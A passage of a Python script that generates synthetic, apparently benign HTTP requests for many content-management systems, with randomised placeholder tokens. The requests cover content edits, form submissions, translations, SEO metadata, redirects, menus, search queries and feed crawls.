            trusted = '{"%s":{"name":1,"email":1,"message":1,"__currentPage":1}}%s' % (fid, hexs(40))
        pairs = [("tx_form_formframework[%s][__state]" % fid, "TzozOToiVFlQTzNcQ01TXEZvcm1cRG9tYWluXFJ1bnRpbWVcRm9ybVN0YXRlIjoy" + tok(80, ALNUM) + "=="),
                 ("tx_form_formframework[__trustedProperties]", trusted),
                 ("tx_form_formframework[%s][name]" % fid, n), ("tx_form_formframework[%s][email]" % fid, em),
                 ("tx_form_formframework[%s][message]" % fid, pick(PROSE)), ("tx_form_formframework[%s][__currentPage]" % fid, "1")]
        return B(c, "typo3_form", "POST", "/%s/kontakt?tx_form_formframework%%5Baction%%5D=perform&tx_form_formframework%%5Bcontroller%%5D=FormFrontend&cHash=%s" % (pick(["de", "en"]), hexs(32)),
                 browser(h, extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    return B(c, "typo3", "GET", "/?type=1533906435&sitemap=%s&cHash=%s" % (pick(["pages", "news"]), hexs(32)), [["Host", h], ["User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"], ["Accept", "*/*"]])


def umbraco_sitecore(c):
    r = R.random()
    if r < 0.4:
        h = host("umbraco")
        doc = {"id": R.randint(1000, 9000), "contentTypeAlias": pick(["newsArticle", "contentPage"]), "parentId": R.randint(1000, 1200), "action": pick(["save", "publish"]),
               "variants": [{"name": pick(TITLES), "properties": [{"id": R.randint(1, 99), "alias": "bodyText", "value": rich_html("umbraco")},
                                                                  {"id": R.randint(1, 99), "alias": "metaDescription", "value": pick(SEO_DESC)},
                                                                  {"id": R.randint(1, 99), "alias": "umbracoUrlAlias", "value": pick(["summer", "news/summer-2024", ""])}],
                             "culture": pick(["en-US", "nl-NL", None]), "save": True, "publish": False}], "templateAlias": pick(["NewsArticle", "ContentPage"])}
        ctype, body = multipart([("contentItem", jdump(doc))])
        return B(c, "umbraco", "POST", "/umbraco/backoffice/UmbracoApi/Content/PostSave",
                 browser(h, accept="application/json, text/plain, */*", cookie=ck_umbraco(), extra=[["Content-Type", ctype], ["X-UMB-XSRF-TOKEN", tok(100, B64URL)]]), body)
    if r < 0.55:
        h = host("umbraco")
        n, em = person()
        pairs = [("Name", n), ("Email", em), ("Phone", "+31 6 %d" % R.randint(10000000, 99999999)), ("Message", pick(PROSE)), ("ufprt", tok(200, B64URL)),
                 ("__RequestVerificationToken", tok(150, B64URL))]
        return B(c, "umbraco", "POST", "/contact", browser(h, extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    h = host("sitecore")
    if r < 0.75:
        return B(c, "sitecore", "GET", "/sitecore/api/layout/render/jss?item=%s&sc_lang=%s&sc_apikey=%s" % (
            qp(pick(["/", "/about-us", "/products/home-insurance", "/news/2024/summer-update"])), pick(["en", "de-DE", "fr-FR"]), qp("{%s}" % uuid4().upper())),
            api(h, pick(["axios/1.6.8", "Next.js Middleware"])))
    if r < 0.88:
        q = 'query { item(path: "/sitecore/content/%s/home", language: "%s") { name fields { name value } children { results { name url { path } } } } }' % (
            pick(["globalinsure", "contoso"]), pick(["en", "de-DE"]))
        return B(c, "sitecore", "POST", "/sitecore/api/graph/edge", api(h, "graphql-request", "application/json", extra=[["sc_apikey", "{%s}" % uuid4().upper()]]), jdump({"query": q}))
    body = {"ItemName": slugify(pick(TITLES)), "TemplateID": "{%s}" % uuid4().upper(), "Title": pick(TITLES), "Text": rich_html("sitecore"),
            "MetaDescription": pick(SEO_DESC)}
    return B(c, "sitecore", "PATCH", "/sitecore/api/ssc/item/%s?database=master&language=en" % uuid4(), browser(h, accept="application/json", cookie=".AspNet.Cookies=" + tok(300, B64URL),
                                                                                                        extra=[["Content-Type", "application/json"]]), jdump(body))


def concrete(c):
    h = host("concrete")
    cid = R.randint(100, 400)
    ccm = "%d:%s" % (1717000000 + R.randint(0, 9000000), hexs(32))
    r = R.random()
    if r < 0.5:
        pairs = [("meta_title", pick(TITLES)), ("meta_description", pick(SEO_DESC)), ("meta_keywords", "dental, lakeside, check-up"),
                 ("cHandle", slugify(pick(TITLES))), ("ccm_token", ccm)]
        return B(c, "concrete", "POST", "/index.php/ccm/system/panels/details/page/seo/submit?cID=%d" % cid,
                 browser(h, accept="application/json, text/javascript, */*; q=0.01", cookie="CONCRETE=" + tok(26, "abcdefghijklmnopqrstuv0123456789"),
                         extra=[["X-Requested-With", "XMLHttpRequest"], ["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"]]), form(pairs))
    pairs = [("content", rich_html("concrete")), ("ccm_token", ccm), ("arHandle", "Main"), ("btask", "edit")]
    return B(c, "concrete", "POST", "/index.php/ccm/system/block/edit/submit/?cID=%d&arHandle=Main&bID=%d&arEnableGridContainer=0" % (cid, R.randint(50, 900)),
             browser(h, accept="application/json, text/javascript, */*; q=0.01", cookie="CONCRETE=" + tok(26, "abcdefghijklmnopqrstuv0123456789"),
                     extra=[["X-Requested-With", "XMLHttpRequest"], ["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"]]), form(pairs))


# ---------------------------------------------------------------- headless webhooks / git-gateway

def headless(c):
    r = R.random()
    if r < 0.3:
        h = host("contentful")
        eid = tok(22, ALNUM)
        doc = {"nodeType": "document", "data": {}, "content": [{"nodeType": "paragraph", "data": {}, "content": [{"nodeType": "text", "value": p, "marks": [], "data": {}}]}
                                                                for p in R.sample(PROSE, 2)]}
        payload = {"metadata": {"tags": []}, "sys": {"type": "Entry", "id": eid, "space": {"sys": {"type": "Link", "linkType": "Space", "id": tok(12, "abcdefghijklmnopqrstuvwxyz0123456789")}},
                                                      "environment": {"sys": {"id": "master", "type": "Link", "linkType": "Environment"}},
                                                      "contentType": {"sys": {"type": "Link", "linkType": "ContentType", "id": pick(["blogPost", "landingPage"])}},
                                                      "revision": R.randint(1, 30), "createdAt": "2024-05-02T09:12:44.512Z", "updatedAt": "2024-06-11T15:01:02.077Z"},
                   "fields": {"title": {"en-US": pick(TITLES), "de-DE": pick(TRANSLATIONS)[1]}, "slug": {"en-US": slugify(pick(TITLES))}, "body": {"en-US": doc}}}
        topic = pick(["ContentManagement.Entry.publish", "ContentManagement.Entry.unpublish", "ContentManagement.Entry.save"])
        return B(c, "contentful_webhook", "POST", "/api/revalidate?secret=" + tok(32, ALNUM),
                 [["Host", h], ["User-Agent", "Contentful-Webhooks/1.0"], ["Accept", "*/*"], ["Content-Type", "application/vnd.contentful.management.v1+json"],
                  ["X-Contentful-Topic", topic], ["X-Contentful-Webhook-Name", "Vercel revalidate"], ["X-Contentful-CRN", "crn:contentful:::content:spaces/%s/environments/master/entries/%s" % (tok(12, "abcdefghijklmnopqrstuvwxyz0123456789"), eid)]], jdump(payload))
    if r < 0.5:
        h = host("sanity")
        body = {"_id": pick(["", "drafts."]) + uuid4(), "_type": pick(["post", "event", "author"]), "_rev": tok(22), "title": pick(TITLES),
                "slug": {"_type": "slug", "current": slugify(pick(TITLES))},
                "body": [{"_type": "block", "_key": hexs(12), "style": "normal", "markDefs": [{"_type": "link", "_key": hexs(12), "href": "https://www.printmakers-guild.example/join"}],
                          "children": [{"_type": "span", "_key": hexs(12), "text": pick(PROSE), "marks": []}]}]}
        return B(c, "sanity_webhook", "POST", "/api/sanity/webhook",
                 [["Host", h], ["User-Agent", "Sanity.io webhook delivery"], ["Accept", "*/*"], ["Content-Type", "application/json"],
                  ["sanity-webhook-signature", "t=%d,v1=%s" % (1717000000 + R.randint(0, 9000000), tok(43, B64URL))], ["idempotency-key", "msg_" + tok(27)]], jdump(body))
    if r < 0.7:
        proj = tok(8, "abcdefghijklmnopqrstuvwxyz0123456789")
        groq = pick(['*[_type == "post" && slug.current == $slug][0]{title, body, "author": author->name}',
                     '*[_type == "event" && dateTime(startsAt) > dateTime(now())] | order(startsAt asc)[0...10]{title, startsAt, venue->{name}}',
                     'count(*[_type == "post" && $tag in tags[]->slug.current])',
                     '*[_type == "post" && defined(slug.current) && !(_id in path("drafts.**"))] | order(publishedAt desc)[$start...$end]'])
        uri = "/v2021-10-21/data/query/production?query=" + qp(groq)
        if "$slug" in groq:
            uri += "&%24slug=" + qp('"%s"' % slugify(pick(TITLES)))
        if "$tag" in groq:
            uri += "&%24tag=" + qp('"%s"' % pick(["union", "printmaking", "workshops"]))
        if "$start" in groq:
            uri += "&%24start=0&%24end=" + str(pick([10, 20]))
        return B(c, "sanity_groq", "GET", uri, [["Host", "%s.apicdn.sanity.io" % proj], ["User-Agent", "@sanity/client 6.18.2"], ["Accept", "application/json"], ["Origin", "https://" + host("sanity")]])
    h = host("netlify")
    if r < 0.85:
        title = pick(TITLES)
        md = "---\ntitle: \"%s\"\ndate: 2024-06-%02dT10:00:00.000Z\ndraft: false\ntags:\n  - news\n  - community\n---\n\n%s" % (title.replace('"', '\\"'), R.randint(1, 28), pick(MARKDOWN))
        body = {"message": "Create Posts “%s”" % slugify(title), "content": base64.b64encode(md.encode()).decode(), "branch": "cms/posts/" + slugify(title)}
        return B(c, "netlify_git_gateway", "PUT", "/.netlify/git/github/contents/content/posts/2024-06-%02d-%s.md" % (R.randint(1, 28), slugify(title)),
                 browser(h, accept="application/json", extra=[["Authorization", "Bearer " + jwt_like()], ["Content-Type", "application/json"]]), jdump(body))
    if r < 0.93:
        return B(c, "netlify_git_gateway", "GET", "/.netlify/git/github/contents/content/posts?ref=%s" % pick(["main", "cms%2Fposts%2Fsummer-festival-2024"]),
                 browser(h, accept="application/json", extra=[["Authorization", "Bearer " + jwt_like()]]))
    return B(c, "netlify_git_gateway", "POST", "/.netlify/identity/token", browser(h, accept="application/json", extra=[["Content-Type", "application/x-www-form-urlencoded"]]),
             form([("grant_type", "password"), ("username", person()[1]), ("password", tok(14))]))


# ---------------------------------------------------------------- cross-CMS traffic

def markdown_posts(c):
    r = R.random()
    md = pick(MARKDOWN)
    if r < 0.35:
        h = host("ghost")
        card = jdump({"version": "0.3.1", "atoms": [], "cards": [["markdown", {"markdown": md}]], "markups": [], "sections": [[10, 0]]})
        return B(c, "markdown", "POST", "/ghost/api/admin/posts/", api(h, "Ghost-Admin-API/1.13.11", "application/json", auth="Ghost " + jwt_like()),
                 jdump({"posts": [{"title": pick(TITLES), "mobiledoc": card, "status": "draft"}]}))
    if r < 0.65:
        h = host("strapi")
        return B(c, "markdown", "PUT", "/api/pages/%d" % R.randint(1, 90), api(h, pick(UA_BROWSERS), "application/json", auth="Bearer " + tok(200, "abcdef0123456789")),
                 jdump({"data": {"body": md, "title": pick(TITLES)}}))
    if r < 0.85:
        h = host("drupal")
        pairs = [("title[0][value]", pick(TITLES)), ("body[0][value]", md), ("body[0][format]", "markdown"), ("form_build_id", form_build_id()),
                 ("form_token", form_token()), ("form_id", "node_page_edit_form"), ("op", "Save")]
        return B(c, "markdown", "POST", "/node/%d/edit" % R.randint(1, 900), browser(h, cookie=ck_drupal(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    h = host("node")
    return B(c, "markdown", "POST", "/api/articles", api(h, "Payload/2.x", "application/json", auth="JWT " + jwt_like()),
             jdump({"title": pick(TITLES), "content": md, "_status": pick(["draft", "published"])}))


def translations(c):
    lang, title, body = pick(TRANSLATIONS)
    r = R.random()
    if r < 0.3:
        h = host("drupal")
        nid = R.randint(1, 900)
        pairs = [("title[0][value]", title), ("body[0][value]", body), ("body[0][format]", "basic_html"), ("content_translation[source]", "en"),
                 ("content_translation[status]", "1"), ("content_translation[retranslate]", "0"), ("langcode[0][value]", lang),
                 ("path[0][alias]", "/%s/%s" % (lang, slugify(title) or "sommer-" + str(nid))), ("form_build_id", form_build_id()), ("form_token", form_token()),
                 ("form_id", "node_article_form"), ("op", "Save (this translation)")]
        ctype, mb = multipart(pairs)
        return B(c, "translations", "POST", "/%s/node/%d/translations/add/en/%s" % (lang, nid, lang), browser(h, cookie=ck_drupal(), extra=[["Content-Type", ctype]]), mb)
    if r < 0.5:
        h = host("strapi")
        return B(c, "translations", "POST", "/api/articles/%d/localizations" % R.randint(1, 400), api(h, "axios/1.6.8", "application/json", auth="Bearer " + tok(200, "abcdef0123456789")),
                 jdump({"locale": lang, "title": title, "content": body}))
    if r < 0.65:
        h = host("joomla")
        pairs = [("jform[title]", title), ("jform[alias]", slugify(title) or "article-%d" % R.randint(1, 999)), ("jform[articletext]", body), ("jform[language]", lang + "-" + lang.upper()[:2]),
                 ("jform[state]", "1"), ("task", "article.save"), (hexs(32), "1")]
        return B(c, "translations", "POST", "/administrator/index.php?option=com_content&view=article&layout=edit&id=%d" % R.randint(1, 400),
                 browser(h, cookie=ck_joomla(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    if r < 0.8:
        h = host("drupal")
        lid = R.randint(1, 9000)
        pairs = [("string", pick(["Select the option", "Drop us a line", "Union members", "Read more", "Log in"])), ("langcode", lang),
                 ("translation", "all"), ("strings[%d][translations][0]" % lid, title.split(":")[0]), ("form_build_id", form_build_id()), ("form_token", form_token()),
                 ("form_id", "locale_translate_edit_form"), ("op", "Save translations")]
        return B(c, "translations", "POST", "/admin/config/regional/translate?langcode=%s" % lang, browser(h, cookie=ck_drupal(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    h = host("directus")
    return B(c, "translations", "PATCH", "/items/pages_translations/%d" % R.randint(1, 2000), api(h, "@directus/sdk", "application/json", auth="Bearer " + tok(32, B64URL)),
             jdump({"languages_code": lang, "title": title, "content": body}))


def seo_meta(c):
    r = R.random()
    if r < 0.4:
        h = host("drupal")
        nid = R.randint(1, 900)
        pairs = [("title[0][value]", pick(TITLES)), ("field_meta_tags[0][basic][title]", pick(["[node:title] | [site:name]", "[node:title] – [node:field_category] | [site:name]"])),
                 ("field_meta_tags[0][basic][description]", pick(["[node:summary]", pick(SEO_DESC)])), ("field_meta_tags[0][basic][abstract]", ""),
                 ("field_meta_tags[0][basic][keywords]", pick(["union, members, AGM", "festival; music; food"])),
                 ("field_meta_tags[0][advanced][canonical_url]", "[node:url]"), ("field_meta_tags[0][advanced][robots][index]", "index"),
                 ("field_meta_tags[0][open_graph][og_image]", "[node:field_image:entity:url]"), ("field_meta_tags[0][open_graph][og_type]", "article"),
                 ("field_meta_tags[0][twitter_cards][twitter_cards_type]", "summary_large_image"),
                 ("field_meta_tags[0][schema_article][schema_article_type]", "NewsArticle"), ("field_meta_tags[0][schema_article][schema_article_headline]", "[node:title]"),
                 ("field_meta_tags[0][schema_article][schema_article_author]", '{"@type":"Person","name":"[node:author:display-name]"}'),
                 ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "node_article_edit_form"), ("op", "Save")]
        ctype, mb = multipart(pairs)
        return B(c, "seo_meta", "POST", "/node/%d/edit" % nid, browser(h, cookie=ck_drupal(), extra=[["Content-Type", ctype]]), mb)
    if r < 0.6:
        h = host("joomla")
        pairs = [("jform[metadesc]", pick(SEO_DESC)), ("jform[metakey]", "parish, mass times, St Mary's"), ("jform[metadata][robots]", "index, follow"),
                 ("jform[metadata][rights]", "© 2024 St Mary's Parish – all rights reserved"), ("jform[params][page_title]", "What's on | St Mary's"),
                 ("task", "article.apply"), (hexs(32), "1")]
        return B(c, "seo_meta", "POST", "/administrator/index.php?option=com_content&view=article&layout=edit&id=%d" % R.randint(1, 400),
                 browser(h, cookie=ck_joomla(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    if r < 0.8:
        h = host("strapi")
        seo = {"metaTitle": pick(TITLES), "metaDescription": pick(SEO_DESC), "keywords": "union, festival, tickets", "metaRobots": "index, follow",
               "canonicalURL": "https://www.marketing-site.example/%s" % slugify(pick(TITLES)),
               "structuredData": {"@context": "https://schema.org", "@type": "Event", "name": pick(TITLES), "startDate": "2024-07-13T10:00",
                                  "location": {"@type": "Place", "name": "Town Hall", "address": "1 Union Square"}, "offers": {"@type": "Offer", "price": "12.50", "priceCurrency": "GBP"}},
               "metaSocial": [{"socialNetwork": "Facebook", "title": pick(TITLES), "description": pick(SEO_DESC)}]}
        return B(c, "seo_meta", "PUT", "/api/pages/%d" % R.randint(1, 90), api(h, "axios/1.6.8", "application/json", auth="Bearer " + tok(200, "abcdef0123456789")), jdump({"data": {"seo": seo}}))
    h = host("magento")
    pairs = [("product[meta_title]", pick(["Faroe wool jumper 'Grind' | Nordic Wool", "Chef's knife 20 cm – Bright Kitchen"])),
             ("product[meta_keyword]", "wool jumper, faroe, knitwear"), ("product[meta_description]", pick(SEO_DESC)), ("form_key", tok(16))]
    return B(c, "seo_meta", "POST", "/admin/catalog/product/save/id/%d/key/%s/" % (R.randint(1, 3000), hexs(64)),
             browser(h, cookie="admin=" + tok(26, "abcdefghijklmnopqrstuv0123456789"), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))


def redirects(c):
    r = R.random()
    h = host("drupal")
    if r < 0.5:
        src = pick(["old-page.html", "news/2019/summer-fete", "index.php?option=com_content&view=article&id=42", "events.aspx", "downloads/AGM minutes 2022.pdf"])
        dst = pick(["/node/%d" % R.randint(1, 900), "internal:/events/summer-festival", "https://shop.greenleaf-foundation.example/sale?utm_source=website&utm_medium=redirect",
                    "entity:node/%d" % R.randint(1, 900), "/news?category=union"])
        pairs = [("redirect_source[0][path]", src), ("redirect_redirect[0][uri]", dst), ("status_code", pick(["301", "302", "307"])),
                 ("language[0][value]", pick(["und", "en", "de"])), ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "redirect_redirect_form"), ("op", "Save")]
        return B(c, "redirects", "POST", "/admin/config/search/redirect/add" + pick(["", "?destination=/admin/config/search/redirect"]),
                 browser(h, cookie=ck_drupal(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    if r < 0.75:
        h = host("craft")
        pairs = [("CRAFT_CSRF_TOKEN", hexs(64) + tok(40, B64URL)), ("action", "retour/redirects/save-redirect"), ("redirectSrcUrl", pick(["/blog/2018/*", "/projects/old-school", "/en/about-us.html"])),
                 ("redirectDestUrl", pick(["/journal/$1", "/projects/riverside-school", "https://www.linden-gallery.example/visit"])),
                 ("redirectMatchType", pick(["exactmatch", "regexmatch"])), ("redirectSrcMatch", "pathonly"), ("redirectHttpCode", "301"), ("siteId", "")]
        return B(c, "redirects", "POST", "/admin/retour/redirects/edit/%d" % R.randint(1, 400), browser(h, cookie=ck_craft(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    # legit destination= redirects after login / forms
    h = host(pick(["drupal", "joomla"]))
    if "alpenverein" in h or "parish" in h or "scouts" in h or "tennis" in h:
        return B(c, "redirects", "GET", "/index.php?option=com_users&view=login&return=%s" % qp(base64.b64encode(b"index.php?option=com_content&view=article&id=%d" % R.randint(1, 400)).decode()), browser(h))
    return B(c, "redirects", "GET", "/user/login?destination=%s" % qp(pick(["/node/%d/edit" % R.randint(1, 900), "/admin/content?type=article", "/events/summer-festival#tickets", "/user/%d" % R.randint(2, 90)])), browser(h))


def menus(c):
    r = R.random()
    title = pick(["About us", "What's on", "Members' area", "Contact", "Union news", "Select choir", "Kids' club", "Drop-in sessions", "Café & shop", "Über uns", "À propos"])
    if r < 0.45:
        h = host("drupal")
        pairs = [("title[0][value]", title), ("link[0][uri]", pick(["/node/%d" % R.randint(1, 900), "internal:/events", "https://shop.greenleaf-foundation.example/", "route:<nolink>", "entity:node/%d" % R.randint(1, 900)])),
                 ("enabled[value]", "1"), ("description[0][value]", pick(["", "Find out who we are", "Members only – log in first"])), ("expanded[value]", pick(["0", "1"])),
                 ("menu_parent", pick(["main:", "main:menu_link_content:" + uuid4(), "footer:"])), ("weight[0][value]", str(R.randint(-10, 10))),
                 ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "menu_link_content_menu_link_content_form"), ("op", "Save")]
        return B(c, "menus", "POST", "/admin/structure/menu/manage/%s/add" % pick(["main", "footer"]), browser(h, cookie=ck_drupal(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    if r < 0.65:
        h = host("drupal")
        pairs = []
        for _ in range(R.randint(3, 6)):
            lid = "menu_plugin_id:menu_link_content:" + uuid4()
            pairs += [("links[%s][enabled]" % lid, "1"), ("links[%s][weight]" % lid, str(R.randint(-50, 50))), ("links[%s][parent]" % lid, pick(["", "menu_link_content:" + uuid4()]))]
        pairs += [("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "menu_edit_form"), ("op", "Save")]
        return B(c, "menus", "POST", "/admin/structure/menu/manage/main", browser(h, cookie=ck_drupal(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    if r < 0.85:
        h = host("strapi")
        items = [{"title": t, "url": u, "target": pick([None, "_blank"]), "order": i} for i, (t, u) in enumerate(R.sample([("Home", "/"), ("What's on", "/events"), ("Members' area", "/members"), ("Shop", "https://shop.example.org"), ("Contact", "/contact")], 4))]
        return B(c, "menus", "PUT", "/api/navigation/%d" % R.randint(1, 3), api(h, "axios/1.6.8", "application/json", auth="Bearer " + tok(200, "abcdef0123456789")), jdump({"data": {"items": items}}))
    h = host("typo3")
    uid = R.randint(1, 600)
    pairs = [("data[pages][%d][title]" % uid, title), ("data[pages][%d][nav_title]" % uid, title.split()[0]), ("data[pages][%d][nav_hide]" % uid, "0"),
             ("data[pages][%d][slug]" % uid, "/" + slugify(title)), ("data[pages][%d][doktype]" % uid, pick(["1", "4"])), ("doSave", "1")]
    return B(c, "menus", "POST", "/typo3/record/commit?token=" + hexs(40), browser(h, cookie=ck_typo3(True), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))


def form_builders(c):
    r = R.random()
    n, em = person()
    msg = pick(PROSE) + " " + pick(PROSE)
    if r < 0.3:
        h = host("drupal")
        pairs = [("name", n), ("email", em), ("phone", "+44 7%d" % R.randint(100000000, 999999999)), ("subject", pick(["Membership query", "Room hire", "Union discount", "Complaint"])),
                 ("message", msg), ("preferred_contact", pick(["email", "phone"])), ("interests[volunteering]", "volunteering"), ("consent", "1"),
                 ("form_build_id", form_build_id()), ("form_id", "webform_submission_contact_node_%d_add_form" % R.randint(1, 900)), ("op", pick(["Send message", "Submit"]))]
        return B(c, "webform", "POST", "/form/contact", browser(h, cookie=ck_drupal() if R.random() < 0.3 else None, extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    if r < 0.5:
        h = host(pick(["drupal", "craft", "concrete"]))
        fid = R.randint(1, 12)
        pairs = [("input_1.3", n.split()[0]), ("input_1.6", n.split()[-1]), ("input_2", em), ("input_3", "+1 (555) %03d-%04d" % (R.randint(100, 999), R.randint(0, 9999))),
                 ("input_4", msg), ("input_5.1", pick(["I agree to the privacy policy", "Yes"])), ("input_6", pick(["First choice", "Second choice", "Third choice"])),
                 ("is_submit_%d" % fid, "1"), ("gform_submit", str(fid)), ("gform_unique_id", ""), ("state_%d" % fid, "WyJbXSIsIj" + tok(40, ALNUM) + "In0="),
                 ("gform_target_page_number_%d" % fid, "0"), ("gform_source_page_number_%d" % fid, "1"), ("gform_field_values", "")]
        return B(c, "form_builder", "POST", "/forms/volunteer", browser(h, extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    if r < 0.65:
        h = host("joomla")
        pairs = [("form[Name]", n), ("form[Email]", em), ("form[Message]", msg), ("form[Select your team][]", pick(["U12 Girls", "Seniors", "Veterans (O'35)"])),
                 ("form[formId]", str(R.randint(1, 9))), (hexs(32), "1")]
        return B(c, "form_builder", "POST", "/index.php?option=com_rsform&view=rsform&formId=%d" % R.randint(1, 9), browser(h, extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    if r < 0.8:
        h = host("craft")
        pairs = [("CRAFT_CSRF_TOKEN", hexs(64) + tok(40, B64URL)), ("action", "formie/submissions/submit"), ("handle", "contactForm"), ("siteId", "1"),
                 ("fields[yourName]", n), ("fields[emailAddress]", em), ("fields[message]", msg), ("fields[howDidYouHear]", pick(["Word of mouth", "Union newsletter", "Google"])),
                 ("submitAction", "submit")]
        return B(c, "form_builder", "POST", "/", browser(h, accept="application/json", cookie=ck_craft(), extra=[["Content-Type", "application/x-www-form-urlencoded"], ["X-Requested-With", "XMLHttpRequest"]]), form(pairs))
    if r < 0.9:
        # form definition with JSON Schema keywords
        h = host(pick(["strapi", "directus", "node"]))
        schema = {"$schema": "http://json-schema.org/draft-07/schema#", "$id": "https://forms.%s/schemas/volunteer.json" % h, "title": "Volunteer sign-up", "type": "object",
                  "required": ["name", "email"], "properties": {"name": {"type": "string", "title": "Full name"}, "email": {"type": "string", "format": "email"},
                                                               "address": {"$ref": "#/definitions/address"}, "shifts": {"type": "array", "items": {"enum": ["Sat AM", "Sat PM", "Sun"]}, "uniqueItems": True}},
                  "definitions": {"address": {"type": "object", "properties": {"street": {"type": "string"}, "city": {"type": "string"}, "postcode": {"type": "string", "pattern": "^[A-Z0-9 ]{5,8}$"}}}}}
        ui = {"type": "VerticalLayout", "elements": [{"type": "Control", "scope": "#/properties/name"}, {"type": "Control", "scope": "#/properties/email"},
                                                     {"type": "Control", "scope": "#/properties/address"}, {"type": "Control", "scope": "#/properties/shifts", "label": "Select your shifts"}]}
        return B(c, "form_builder", "PUT", "/api/forms/%d" % R.randint(1, 30), api(h, "axios/1.6.8", "application/json", auth="Bearer " + jwt_like()), jdump({"schema": schema, "uischema": ui}))
    h = host("umbraco")
    pairs = [("FormId", uuid4()), ("FormName", "Contact"), ("RecordId", ""), ("PreviousClicked", ""), ("Theme", ""),
             (uuid4(), n), (uuid4(), em), (uuid4(), msg), ("__RequestVerificationToken", tok(150, B64URL)), ("ufprt", tok(180, B64URL))]
    return B(c, "form_builder", "POST", "/contact-us/", browser(h, extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))


def search_pages(c):
    q = pick(SEARCH_TERMS)
    r = R.random()
    if r < 0.3:
        h = host("drupal")
        if R.random() < 0.5:
            return B(c, "search", "GET", "/search/node?keys=" + qp(q), browser(h))
        pairs = [("search_api_fulltext", q), ("f[0]", pick(["content_type:article", "category:%d" % R.randint(1, 40), "year:2024"])), ("sort_by", pick(["search_api_relevance", "created"])),
                 ("sort_order", "DESC"), ("items_per_page", "20")]
        return B(c, "search", "GET", "/search?" + form(pairs[: R.randint(1, 5)]), browser(h))
    if r < 0.45:
        h = host("magento")
        return B(c, "search", "GET", "/search/ajax/suggest/?q=%s&_=%d" % (qp(q), 1717000000000 + R.randint(0, 99999999)),
                 browser(h, accept="application/json, text/javascript, */*; q=0.01", extra=[["X-Requested-With", "XMLHttpRequest"]]))
    if r < 0.6:
        h = host("ghost")
        return B(c, "search", "GET", "/ghost/api/content/posts/?key=%s&limit=10000&fields=id%%2Cslug%%2Ctitle%%2Cexcerpt%%2Curl%%2Cupdated_at%%2Cvisibility&order=updated_at%%20DESC&filter=%s" % (
            hexs(26), qpct("title:~'%s'" % q.replace("'", "\\'"))), api(h, pick(UA_BROWSERS)))
    if r < 0.75:
        h = host("craft")
        return B(c, "search", "GET", "/search?q=%s&section=%s" % (qpct(q), pick(["news", "projects", ""])), browser(h))
    if r < 0.88:
        h = host("sitecore")
        return B(c, "search", "GET", "/api/search?query=%s&page=%d&pageSize=10&sc_lang=en" % (qpct(q), R.randint(1, 5)), browser(h, accept="application/json"))
    h = host("netlify")
    return B(c, "search", "POST", "/1/indexes/*/queries?x-algolia-agent=Algolia%%20for%%20JavaScript%%20(4.23.3)%%3B%%20Browser&x-algolia-api-key=%s&x-algolia-application-id=%s" % (hexs(32), tok(10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")),
             browser(h, accept="*/*", extra=[["Content-Type", "application/x-www-form-urlencoded"]]),
             jdump({"requests": [{"indexName": "docs", "params": "query=%s&hitsPerPage=20&facetFilters=%s" % (qpct(q), qpct('[["language:en"],["version:v2"]]'))}]}))


def feeds(c):
    r = R.random()
    bots = ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Feedly/1.0 (+https://feedly.com/poller.html; 42 subscribers; )", "NetNewsWire (RSS Reader; https://netnewswire.com/)", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"]
    cms = pick(["drupal", "joomla", "magento", "ghost", "craft", "typo3", "umbraco"])
    h = host(cms)
    paths = {"drupal": ["/sitemap.xml", "/sitemap.xml?page=%d" % R.randint(1, 4), "/rss.xml", "/taxonomy/term/%d/feed" % R.randint(1, 50), "/robots.txt"],
             "joomla": ["/index.php?option=com_jmap&view=sitemap&format=xml", "/index.php?format=feed&type=rss", "/index.php?option=com_content&view=category&id=%d&format=feed&type=atom" % R.randint(2, 30)],
             "magento": ["/sitemap.xml", "/pub/media/sitemap/sitemap_%d.xml" % R.randint(1, 3), "/robots.txt"],
             "ghost": ["/rss/", "/sitemap-posts.xml", "/sitemap-tags.xml", "/tag/%s/rss/" % pick(["news", "union"])],
             "craft": ["/sitemaps-1-sitemap.xml", "/sitemaps-1-section-news-1-sitemap.xml", "/feed.rss"],
             "typo3": ["/?type=1533906435", "/?type=9818&tx_news_pi1%5Bcontroller%5D=News&tx_news_pi1%5Baction%5D=list&cHash=" + hexs(32)],
             "umbraco": ["/sitemap.xml", "/rss", "/umbraco/api/sitemap/get"]}
    return B(c, "feeds", "GET", pick(paths[cms]), [["Host", h], ["User-Agent", pick(bots)], ["Accept", pick(["application/rss+xml, application/xml;q=0.9, */*;q=0.8", "*/*", "text/xml"])],
                                                   ["If-Modified-Since", "Mon, %02d Jun 2024 08:00:00 GMT" % R.randint(1, 28)]])


def cron_update(c):
    r = R.random()
    if r < 0.3:
        h = host("drupal")
